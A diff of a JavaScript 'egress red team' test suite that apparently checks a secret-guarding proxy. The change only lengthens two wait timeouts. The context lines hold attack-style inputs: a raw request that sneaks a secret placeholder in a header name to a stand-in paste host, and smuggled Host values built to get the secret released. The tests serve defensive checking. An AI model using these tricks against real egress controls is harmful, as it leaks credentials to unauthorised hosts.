@@ -226,7 +226,7 @@ describe('egress red team: the real value only to its host, nothing nobody allow
   test('a placeholder in a header name over plain HTTP is recorded and makes the task critical (names were not looked at)', async () => {
     const t = await newTask('placeholder in a name');
     await rawExchange(t.sock, `GET http://paste.example.test:${plainUp.port}/named HTTP/1.1\r\nHost: paste.example.test\r\nX-${t.ph}: 1\r\nConnection: close\r\n\r\n`);
-    await waitFor(async () => (await events(t.task)).some((e) => e.tool === 'net.placeholder-leak'), 'the leak to be recorded', 10_000);
+    await waitFor(async () => (await events(t.task)).some((e) => e.tool === 'net.placeholder-leak'), 'the leak to be recorded', 30_000);
     const leak = (await events(t.task)).find((e) => e.tool === 'net.placeholder-leak');
     assert.equal(leak?.risk.level, 'critical');
   });
@@ -308,7 +308,7 @@ describe('egress red team: the real value only to its host, nothing nobody allow
     );
     assert.match(back, /^HTTP\/1\.1 200/);
     assert.match(back, /HTTP\/1\.1 421/);
-    await waitFor(async () => (await events(t.task)).some((e) => e.tool === 'net.placeholder-leak'), 'the wrong Host to be recorded as a leak', 10_000);
+    await waitFor(async () => (await events(t.task)).some((e) => e.tool === 'net.placeholder-leak'), 'the wrong Host to be recorded as a leak', 30_000);
     for (const host of [`api.example.test.:${tlsUp.port}`, `x@api.example.test:${tlsUp.port}`, 'api.example.test:1', `paste.example.test:${tlsUp.port}`, '']) {
       const t2 = await newTask(`host ${host}`);
       const s2 = await tlsInTunnel(t2.sock, api(tlsUp.port), 'api.example.test', t2.caBundle);
